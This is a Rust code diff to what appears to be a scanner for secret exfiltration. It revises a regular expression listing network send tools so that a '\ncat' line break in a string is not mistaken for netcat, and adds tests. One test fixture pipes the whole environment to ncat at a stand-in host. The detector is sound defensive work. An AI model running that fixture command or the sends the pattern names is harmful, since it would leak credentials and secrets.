@@ -31,7 +31,7 @@ re!(
 );
 re!(
     SEND,
-    r"(?i)requests\.(post|put|patch|get)\s*\(|httpx\.(post|put|patch|get)\s*\(|urlopen\s*\(|urllib\.request\.Request\s*\(|http\.client|\bfetch\s*\(|axios(\.(post|put|get))?\s*\(|https?\.(request|get)\s*\(|\bcurl\b|\bwget\b|Invoke-(WebRequest|RestMethod)|\biwr\b|socket\.(connect|send|sendall)|\.connect\(\s*\(|\bnc\s|\bncat\b|smtplib|nodemailer|\.sendMail\(|Send-MailMessage|\.Upload(String|File|Data|Values)\(|\bnslookup\b|\bdig\s|dns\.resolver|git\s+push|\bscp\s|\brsync\s|gethostbyname|getaddrinfo|\bresolver\.(resolve|query)|dns\.lookup|\b(req|request|client|sock|ws|conn)\.(write|send|end)\s*\("
+    r"(?i)requests\.(post|put|patch|get)\s*\(|httpx\.(post|put|patch|get)\s*\(|urlopen\s*\(|urllib\.request\.Request\s*\(|http\.client|\bfetch\s*\(|axios(\.(post|put|get))?\s*\(|https?\.(request|get)\s*\(|\bcurl\b|\bwget\b|Invoke-(WebRequest|RestMethod)|\biwr\b|socket\.(connect|send|sendall)|\.connect\(\s*\(|(?:^|[^\\\w])(?:nc\s|ncat\b)|smtplib|nodemailer|\.sendMail\(|Send-MailMessage|\.Upload(String|File|Data|Values)\(|\bnslookup\b|\bdig\s|dns\.resolver|git\s+push|\bscp\s|\brsync\s|gethostbyname|getaddrinfo|\bresolver\.(resolve|query)|dns\.lookup|\b(req|request|client|sock|ws|conn)\.(write|send|end)\s*\("
 );
 re!(
     /// A logging handler that sends each record over the network: the logger's calls are sends.
@@ -860,6 +860,11 @@ mod tests {
         assert_eq!(secret_flows(keys, 1), vec![(1, "the whole environment", 2)]);
         let multi = "env_data = dict(os.environ)\nrequests.post(\n    \"https://x.invalid/c\",\n    json={\"t\": env_data}\n)\n";
         assert_eq!(secret_flows(multi, 1), vec![(1, "the whole environment", 2)]);
+        // `\ncat` in a string literal is a line break and `cat`, not netcat; netcat itself still sends.
+        let shim = "env = os.environ.copy()\nfake.write_text(\"#!/bin/sh\\ncat >/dev/null\\nexit 0\\n\")\nrun(cmd, env=env)\n";
+        assert_eq!(secret_flows(shim, 1), vec![]);
+        let netcat = "env | ncat collect.example 9000\n";
+        assert_eq!(secret_flows(netcat, 1), vec![(1, "the whole environment", 1)]);
     }
 
     #[test]
